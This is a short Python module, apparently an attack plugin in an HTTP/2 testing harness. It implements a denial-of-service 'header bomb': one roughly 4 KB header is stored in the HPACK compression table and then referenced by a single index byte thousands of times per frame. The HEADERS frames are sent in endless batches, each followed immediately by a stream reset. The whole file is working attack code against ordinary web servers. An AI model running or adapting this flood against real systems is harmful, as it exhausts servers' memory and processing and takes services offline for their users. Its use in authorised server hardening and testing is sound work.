"""One header of 4 KB is remembered, and then named by a byte each, sixteen thousand times a frame."""

import wire

WAYS = ("plain",)
FLOOR = {"streams": 100}
BATCH = 8


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    request = wire.request_headers(wire.LIST_DISPLAYS, target.scheme)
    # The names of a request don't fit beside it: they are spelled out each time.
    spelled = b"".join(wire.literal(name, value) for name, value in request)
    remembered = b"\x40" + wire.string("x") + wire.string("y" * 4000)
    bomb = spelled + remembered + b"\xbe" * (wire.FRAME_MAX - len(spelled) - len(remembered))
    while True:
        out = []
        for _ in range(BATCH):
            stream = connection.next_stream
            connection.next_stream += 2
            out += (wire.frame(wire.HEADERS, wire.END_HEADERS, stream, bomb),
                    wire.rst_stream(stream))
        connection.send(b"".join(out))
        connection.count("streams", BATCH)
